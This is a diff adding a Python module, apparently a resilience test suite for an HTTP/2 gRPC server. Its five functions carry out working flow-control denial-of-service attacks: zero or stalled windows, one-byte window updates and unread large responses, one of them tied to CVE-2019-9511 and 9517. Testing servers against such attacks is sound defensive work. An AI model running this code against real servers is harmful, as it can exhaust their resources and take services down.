@@ -1,0 +1,81 @@
+"""Peers that ask for much and take nothing: stalled windows and slow readers."""
+
+import struct
+import time
+
+from wire import (
+    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, WINDOW_UPDATE, Attacker, frame,
+    request_block,
+)  # fmt: skip
+
+# RepeatRequest { payload: 1000 bytes, count: 1000000 }, and EchoRequest { payload: 1 MB }.
+_PAYLOAD = b"\x12\xe8\x07" + bytes(1000) + b"\x18\xc0\x84\x3d"
+REPEAT = struct.pack(">BI", 0, len(_PAYLOAD)) + _PAYLOAD
+NO_WINDOW = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
+
+
+def ask(attacker, streams, message=REPEAT, method="Repeat"):
+    for turn in range(streams):
+        stream = 2 * turn + 1
+        head = frame(HEADERS, END_HEADERS, stream, request_block(method))
+        attacker.send(head + frame(DATA, END_STREAM, stream, message), 1)
+
+
+def _hold(attacker, seconds):
+    """Stays for so long, or until it is cut off."""
+    attacker.read_until(lambda: False, seconds)
+    return attacker.outcome()
+
+
+def no_window(address, seconds=3, streams=200):
+    """CVE-2019-9511, 9517: INITIAL_WINDOW_SIZE is 0, and endless answers are asked for."""
+    with Attacker(address, settings=NO_WINDOW) as attacker:
+        ask(attacker, streams)
+        return _hold(attacker, seconds)
+
+
+def window_never_updated(address, seconds=3, streams=200):
+    """The first 64 KiB are taken, and no more."""
+    with Attacker(address) as attacker:
+        ask(attacker, streams)
+        return _hold(attacker, seconds)
+
+
+def window_of_one_byte(address, seconds=3, streams=50):
+    """The window is opened by one byte at a time."""
+    with Attacker(address, settings=NO_WINDOW) as attacker:
+        ask(attacker, streams)
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and not attacker.is_cut:
+            for turn in range(streams):
+                attacker.send(frame(WINDOW_UPDATE, 0, 2 * turn + 1, struct.pack(">I", 1)), 1)
+            attacker.read(0.02)
+        return attacker.outcome()
+
+
+def unread_answers(address, seconds=3, streams=200):
+    """Windows are wide open, and nothing is read from the socket."""
+    wide = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0x7FFFFFFF)
+    with Attacker(address, settings=wide, receive_buffer=4096) as attacker:
+        attacker.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFF0000 - 65535)))
+        ask(attacker, streams)
+        time.sleep(seconds)
+        return attacker.outcome()
+
+
+def large_answers_unread(address, seconds=3, streams=200):
+    """Unary answers of 200 KB each wait for a window that never opens."""
+    payload = b"\x12" + bytes([0xC0, 0x9A, 0x0C]) + bytes(200_000)
+    message = struct.pack(">BI", 0, len(payload)) + payload
+    with Attacker(address, settings=NO_WINDOW) as attacker:
+        for turn in range(streams):
+            stream = 2 * turn + 1
+            attacker.send(frame(HEADERS, END_HEADERS, stream, request_block()))
+            for at in range(0, len(message), 16384):
+                flags = END_STREAM if at + 16384 >= len(message) else 0
+                attacker.send(frame(DATA, flags, stream, message[at : at + 16384]), 1)
+            attacker.sync()
+        return _hold(attacker, seconds)
+
+
+ALL = [no_window, window_never_updated, window_of_one_byte, unread_answers, large_answers_unread]
